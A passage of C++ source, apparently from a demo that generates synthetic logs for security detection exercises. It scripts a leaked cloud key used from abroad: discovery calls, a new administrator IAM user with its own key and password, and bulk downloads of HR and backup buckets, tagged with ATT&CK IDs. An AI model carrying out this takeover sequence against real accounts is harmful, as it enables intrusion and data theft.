    w.logoff(v.pc, end + 2 * k_us, v.account, v.sid, 2, lid, s_mail);
    w.logoff("FS01", end + 5 * k_us, v.account, v.sid, 3, flid, s_mail);
    m.notes = {"context/absences.csv lists the day as paid_leave for " + v.account + "; context/badge.csv has no entry of badge " +
               v.badge + " that day. The other staff badge in as usual, so whoever used the PC was in the office."};
    return m;
}

// --- (d) ---------------------------------------------------------------------------------------

story_meta story_d(world& w) {
    rng r = derive(w.seed, "story-d");
    const int day = w.plan.d_day;
    const std::string ip1 = "203.0.113." + std::to_string(140 + r.below(5));
    const std::string ip2 = "203.0.113." + std::to_string(145 + r.below(5));
    w.geo_of(ip1, "Netherlands", "NL", "story (d) attacker (VPS)");
    w.geo_of(ip2, "Singapore", "SG", "story (d) attacker (second VPS)");
    const std::string new_user = "backup-svc2";
    story_meta m;
    m.id = "d";
    m.title = "Leaked cloud access key used from abroad";
    m.summary = "The CI user's access key (deploy-bot, normally used from the CI runner 192.0.2.200) is used at night from " + ip1 +
                " (Netherlands): discovery calls, a new IAM user " + new_user + " with AdministratorAccess and its own key, "
                "which then reads the HR archive and backup buckets from " + ip2 + " (Singapore).";
    m.attacker_ips = {ip1, ip2};
    m.accounts = {"deploy-bot", new_user};
    m.indicators = {"AKIAQ3EGZ7DPLY7H2K4M", "AKIAQ3EGZ7BKSVC2R8TQ"};

    const std::string deploy = "{\"type\":\"IAMUser\",\"principalId\":\"AIDAQ3EGZ7DEPLOYBOT01\",\"arn\":\"arn:aws:iam::" + w.aws_account +
                               ":user/deploy-bot\",\"accountId\":\"" + w.aws_account +
                               "\",\"accessKeyId\":\"AKIAQ3EGZ7DPLY7H2K4M\",\"userName\":\"deploy-bot\"}";
    const std::string intruder = "{\"type\":\"IAMUser\",\"principalId\":\"AIDAQ3EGZ7BKSVC2X001\",\"arn\":\"arn:aws:iam::" + w.aws_account +
                                 ":user/" + new_user + "\",\"accountId\":\"" + w.aws_account +
                                 "\",\"accessKeyId\":\"AKIAQ3EGZ7BKSVC2R8TQ\",\"userName\":\"" + new_user + "\"}";
    const std::string ua = "aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off";
    usec t = w.at(day, 2, static_cast<int>(r.range(35, 48)), static_cast<int>(r.below(60)));

    auto call = [&](const std::string& ident, const std::string& ip, const std::string& source, const std::string& name,
                    const std::string& region, const std::string& req, bool ro, const std::string& err, int step,
                    const std::string& cmd) {
        ct_event ce;
        ce.identity_json = ident;
        ce.ip = ip;
        ce.source = source;
        ce.name = name;
        ce.region = region;
        ce.request_json = req;
        ce.read_only = ro;
        ce.user_agent = ua + " command/" + cmd;
        if (!err.empty()) {
            ce.error_code = err;
            ce.error_message = "User: arn:aws:iam::" + w.aws_account + ":user/deploy-bot is not authorized to perform: " +
                               source.substr(0, source.find('.')) + ":" + name + " because no identity-based policy allows the " +
                               source.substr(0, source.find('.')) + ":" + name + " action";
        }
        w.cloudtrail(t, ce, step);
        t += r.range(2, 25) * k_us;
    };

    int s_entry = w.out.step("d", "entry", "d.entry.key_used_abroad", "the CI user's key used from an unknown foreign address (Kali CLI)", {"T1078.004"});
    call(deploy, ip1, "sts.amazonaws.com", "GetCallerIdentity", "us-east-1", "null", true, "", s_entry, "sts.get-caller-identity");

    int s_disc = w.out.step("d", "internal", "d.internal.discovery", "account, user and bucket discovery (some denied)", {"T1087.004", "T1580", "T1619"});
    call(deploy, ip1, "iam.amazonaws.com", "ListUsers", "us-east-1", "null", true, "", s_disc, "iam.list-users");
    call(deploy, ip1, "iam.amazonaws.com", "ListAttachedUserPolicies", "us-east-1", "{\"userName\":\"deploy-bot\"}", true, "", s_disc,
         "iam.list-attached-user-policies");
    call(deploy, ip1, "iam.amazonaws.com", "GetAccountAuthorizationDetails", "us-east-1", "null", true, "AccessDenied", s_disc,
         "iam.get-account-authorization-details");
    call(deploy, ip1, "s3.amazonaws.com", "ListBuckets", "ap-northeast-1", "{\"Host\":\"s3.ap-northeast-1.amazonaws.com\"}", true, "",
         s_disc, "s3.ls");
    call(deploy, ip1, "ec2.amazonaws.com", "DescribeRegions", "us-east-1", "{\"regionSet\":{}}", true, "UnauthorizedOperation", s_disc,
         "ec2.describe-regions");
    for (const char* region : {"ap-northeast-1", "us-east-1", "eu-west-1"})
        call(deploy, ip1, "ec2.amazonaws.com", "DescribeInstances", region, "{\"instancesSet\":{},\"filterSet\":{}}", true,
             "UnauthorizedOperation", s_disc, "ec2.describe-instances");

    int s_persist = w.out.step("d", "internal", "d.internal.new_admin_user",
                               "new IAM user with AdministratorAccess, a console password and an access key", {"T1136.003", "T1098.001", "T1098.003"});
    t += r.range(60, 180) * k_us;
    call(deploy, ip1, "iam.amazonaws.com", "CreateUser", "us-east-1", "{\"userName\":\"" + new_user + "\"}", false, "", s_persist,
         "iam.create-user");
    call(deploy, ip1, "iam.amazonaws.com", "AttachUserPolicy", "us-east-1",
         "{\"userName\":\"" + new_user + "\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}", false, "", s_persist,
         "iam.attach-user-policy");
    call(deploy, ip1, "iam.amazonaws.com", "CreateLoginProfile", "us-east-1",
         "{\"userName\":\"" + new_user + "\",\"passwordResetRequired\":false}", false, "", s_persist, "iam.create-login-profile");
    call(deploy, ip1, "iam.amazonaws.com", "CreateAccessKey", "us-east-1", "{\"userName\":\"" + new_user + "\"}", false, "", s_persist,
         "iam.create-access-key");

    int s_read = w.out.step("d", "exit", "d.exit.bucket_reads", "the new user lists and downloads the HR archive and backup buckets from a second foreign address", {"T1530"});
    t += r.range(20, 40) * k_min_us;
    call(intruder, ip2, "sts.amazonaws.com", "GetCallerIdentity", "us-east-1", "null", true, "", s_read, "sts.get-caller-identity");
    call(intruder, ip2, "s3.amazonaws.com", "ListBuckets", "ap-northeast-1", "{\"Host\":\"s3.ap-northeast-1.amazonaws.com\"}", true, "",
         s_read, "s3.ls");
    for (const char* bucket : {"kaede-hr-archive", "kaede-backup"}) {
        ct_event ce;
        ce.identity_json = intruder;
        ce.ip = ip2;
        ce.source = "s3.amazonaws.com";
        ce.region = "ap-northeast-1";
        ce.user_agent = ua + " command/s3.sync";
        ce.data_event = true;
        ce.name = "ListObjects";
        ce.request_json = std::string("{\"bucketName\":\"") + bucket + "\",\"Host\":\"" + bucket +
                          ".s3.ap-northeast-1.amazonaws.com\",\"list-type\":\"2\"}";
        ce.resources_json = std::string("[{\"accountId\":\"") + w.aws_account + "\",\"type\":\"AWS::S3::Bucket\",\"ARN\":\"arn:aws:s3:::" +
                            bucket + "\"}]";
        w.cloudtrail(t, ce, s_read);
        t += r.range(1, 5) * k_us;
        int n = std::string(bucket) == "kaede-hr-archive" ? 90 : 30;
        for (int i = 0; i < n; ++i) {
            char key[96];
            if (std::string(bucket) == "kaede-hr-archive")
                std::snprintf(key, sizeof key, "employees/%04d/record_%03d.pdf", 2015 + i % 10, i);
            else
                std::snprintf(key, sizeof key, "fs01/full/2025-0%d-%02d.tar.zst", 3 + i % 2, 1 + i % 28);
            ce.name = "GetObject";
            ce.request_json = std::string("{\"bucketName\":\"") + bucket + "\",\"Host\":\"" + bucket +
                              ".s3.ap-northeast-1.amazonaws.com\",\"key\":\"" + key + "\"}";
            ce.resources_json = std::string("[{\"type\":\"AWS::S3::Object\",\"ARN\":\"arn:aws:s3:::") + bucket + "/" + key +
                                "\"},{\"accountId\":\"" + w.aws_account + "\",\"type\":\"AWS::S3::Bucket\",\"ARN\":\"arn:aws:s3:::" +
                                bucket + "\"}]";
            w.cloudtrail(t, ce, s_read);
            t += r.range(1, 12) * k_us;
        }
    }
    m.notes = {"The same key is used legitimately from 192.0.2.200 (CI) on deploy days; the foreign addresses, the Kali user "
               "agent and the night hour are what differ."};
    return m;
}

}  // namespace

void plan_stories(world& w) {
    rng r = derive(w.seed, "plan");
    auto& p = w.plan;
    p.b_day = first_day_from(w, w.days * 7 / 30, true, false);
    p.b_victim = pick_member(w, r, "SLS", true, true);
    p.d_day = std::clamp(w.days * 10 / 30, 0, w.days - 1);
    p.c_day = first_day_from(w, w.days * 16 / 30, true, false);
    p.c_owner = pick_member(w, r, "HR", true, false);
    p.a_day = first_day_from(w, w.days * 19 / 30, false, true);
    p.a_victim = pick_member(w, r, "FIN", true, false);
    // The malware victim is at the office from the infection on; the leave story's owner is on
    // leave that day (and not working from home).
    auto& vb = w.people[static_cast<std::size_t>(p.b_victim)];
    for (int d = p.b_day; d < w.days; ++d) clear_day(vb, d);
    auto& vc = w.people[static_cast<std::size_t>(p.c_owner)];
    clear_day(vc, p.c_day);
    vc.leave.push_back(p.c_day);
    std::sort(vc.leave.begin(), vc.leave.end());
}

std::vector<story_meta> attack_stories(world& w) {
    std::vector<story_meta> all;
    all.push_back(story_a(w));
    all.push_back(story_b(w));
    all.push_back(story_c(w));
    all.push_back(story_d(w));
    return all;
}

}  // namespace mimamori::demo
